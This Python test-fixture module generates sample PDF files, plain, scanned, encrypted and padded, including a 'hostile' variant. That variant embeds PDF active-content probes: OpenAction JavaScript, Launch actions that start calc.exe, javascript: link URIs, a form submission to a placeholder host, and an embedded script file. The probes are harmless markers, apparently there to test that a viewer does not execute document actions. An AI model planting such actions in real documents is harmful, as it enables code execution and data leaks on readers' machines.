"""PDF documents made for a test: harmless ones, and some that try what documents can try. All of them are ASCII."""

from __future__ import annotations

# What a viewer that runs documents would do as soon as this one is opened, and when somebody presses its link.
_ATTEMPTS = (
    "/OpenAction << /S /JavaScript /JS (app.alert(1); top.ran = 1) >> "
    "/AA << /WC << /S /Launch /F (calc.exe) >> /WP << /S /URI /URI (http://elsewhere.invalid/printed) >> >> "
    "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm('http://elsewhere.invalid/')) >>] >> "
    "/EmbeddedFiles << /Names [(b.js) << /Type /Filespec /F (b.js) /EF << /F 4 0 R >> >>] >> >> "
)
_LINKS = "".join(
    f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << {action} >> >> "
    for action in (
        "/S /URI /URI (javascript:top.ran=1)",
        "/S /Launch /F (calc.exe)",
        "/S /JavaScript /JS (top.ran = 1)",
        "/S /URI /URI (http://elsewhere.invalid/pressed)",
    )
)
_LOCK = (
    "<< /Filter /Standard /V 1 /R 2 /P -4 "
    f"/O <{'a1' * 32}> /U <{'b2' * 32}> >>"  # of no password that anybody knows
)


def paper(pages: int = 1, *, hostile: bool = False, locked: bool = False, padding: int = 0, weight: int = 0) -> str:
    """A document that says `Page 1`, `Page 2` and so on.

    So many bytes that nobody needs lie in its middle (`padding`), and in each page (`weight`).
    """
    kids = " ".join(f"{10 + 2 * page} 0 R" for page in range(pages))
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {_ATTEMPTS if hostile else ''}>>",
        2: f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>",
        3: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: _stream("x" * padding),
        5: _LOCK,
    }
    for page in range(pages):
        objects[10 + 2 * page] = (
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> "
            f"/Contents {11 + 2 * page} 0 R {f'/Annots [{_LINKS}]' if hostile else ''}>>"
        )
        objects[11 + 2 * page] = _stream(
            f"BT /F 48 Tf 60 700 Td (Page {page + 1}) Tj ET 0.6 0.25 0.1 rg 60 560 475 60 re f{' ' * weight}"
        )
    return _written(objects, "/Encrypt 5 0 R /ID [<00> <00>] " if locked else "")


def scan() -> str:
    """One page that a scanner made: a black picture, packed as telefaxes are (CCITT group 4)."""
    white = "FF001001>"  # eight lines like the one above them, and the end
    return _written(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: "<< /Type /Pages /Count 1 /Kids [10 0 R] >>",
            3: (
                "<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /ColorSpace /DeviceGray "
                "/Decode [1 0] /Filter [/ASCIIHexDecode /CCITTFaxDecode] "
                f"/DecodeParms [null << /K -1 /Columns 8 /Rows 8 >>] {_stream(white)[3:]}"
            ),
            10: (
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] "
                "/Resources << /XObject << /I 3 0 R >> >> /Contents 11 0 R >>"
            ),
            11: _stream("q 400 0 0 400 0 0 cm /I Do Q"),
        },
        "",
    )


def _stream(content: str) -> str:
    return f"<< /Length {len(content)} >>\nstream\n{content}\nendstream"


def _written(objects: dict[int, str], trailer: str) -> str:
    text, places = "%PDF-1.7\n", {}
    for number, value in objects.items():
        places[number] = len(text)
        text += f"{number} 0 obj\n{value}\nendobj\n"
    table = "".join(f"{number} 1\n{place:010} 00000 n \n" for number, place in places.items())
    return (
        f"{text}xref\n0 1\n0000000000 65535 f \n{table}trailer\n"
        f"<< /Size {max(objects) + 1} /Root 1 0 R {trailer}>>\nstartxref\n{len(text)}\n%%EOF\n"
    )
